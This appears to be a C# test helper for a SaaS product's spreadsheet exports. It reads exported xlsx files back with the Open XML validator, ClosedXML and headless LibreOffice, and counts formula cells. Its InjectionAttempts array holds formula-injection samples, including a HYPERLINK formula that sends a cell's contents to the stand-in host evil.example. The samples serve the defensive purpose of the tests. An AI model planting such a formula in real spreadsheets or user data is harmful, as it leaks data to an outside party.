using System.Diagnostics;
using ClosedXML.Excel;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;

namespace NetworkSaaS.Tests.Exports;

/// <summary>Reads exported files back the way other programs do: the Open XML SDK (validator), ClosedXML, LibreOffice.</summary>
internal static class Spreadsheets
{
    /// <summary>What user data was written into the test data to try formula injection.</summary>
    public static readonly string[] InjectionAttempts = ["=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "+1", "@x", "-2", "=1+1"];

    public static XLWorkbook Open(byte[] xlsx) => new(new MemoryStream(xlsx));

    public static List<string> ValidationErrors(byte[] xlsx)
    {
        using var document = SpreadsheetDocument.Open(new MemoryStream(xlsx), false);
        return [.. new OpenXmlValidator().Validate(document).Select(e => $"{e.Part?.Uri} {e.Path?.XPath}: {e.Description}")];
    }

    /// <summary>Cells with a formula, in every sheet.</summary>
    public static int FormulaCount(byte[] xlsx)
    {
        using var document = SpreadsheetDocument.Open(new MemoryStream(xlsx), false);
        return document.WorkbookPart!.WorksheetParts.Sum(p => p.Worksheet.Descendants<CellFormula>().Count());
    }

    /// <summary>Whether the workbook has a shared-string table with any entry.</summary>
    public static bool UsesSharedStrings(byte[] xlsx)
    {
        using var document = SpreadsheetDocument.Open(new MemoryStream(xlsx), false);
        return document.WorkbookPart!.SharedStringTablePart?.SharedStringTable.Elements<SharedStringItem>().Any() == true;
    }

    /// <summary>
    /// Converts every sheet to CSV with LibreOffice headless (a real spreadsheet program): proof that it opens the file,
    /// and what it reads in each cell (a formula would show its result, not its text).
    /// </summary>
    public static async Task<Dictionary<string, string>> LibreOfficeCsvAsync(byte[] xlsx)
    {
        var soffice = new[] { "/usr/bin/soffice", "/usr/lib/libreoffice/program/soffice" }.FirstOrDefault(File.Exists)
            ?? throw new InvalidOperationException("LibreOffice is not installed: `apt-get install -y libreoffice-calc-nogui` (the CI script does it).");
        var folder = Directory.CreateTempSubdirectory("networksaas-lo-");
        try
        {
            var input = Path.Combine(folder.FullName, "export.xlsx");
            await File.WriteAllBytesAsync(input, xlsx);
            var start = new ProcessStartInfo(soffice)
            {
                ArgumentList =
                {
                    $"-env:UserInstallation=file://{folder.FullName}/profile", "--headless", "--norestore",
                    // UTF-8, cells as shown (dates and numbers in their formats), every sheet to its own file (the last field, -1).
                    "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false,false,-1",
                    "--outdir", folder.FullName, input,
                },
                RedirectStandardOutput = true,
                RedirectStandardError = true,
            };
            using var process = Process.Start(start)!;
            using var timeout = new CancellationTokenSource(TimeSpan.FromMinutes(3));
            var output = await process.StandardOutput.ReadToEndAsync(timeout.Token);
            await process.WaitForExitAsync(timeout.Token);
            Assert.True(process.ExitCode == 0, $"soffice exited {process.ExitCode}: {output}");
            return Directory.GetFiles(folder.FullName, "export-*.csv")
                .ToDictionary(f => Path.GetFileNameWithoutExtension(f)["export-".Length..], f => File.ReadAllText(f), StringComparer.Ordinal);
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }
}
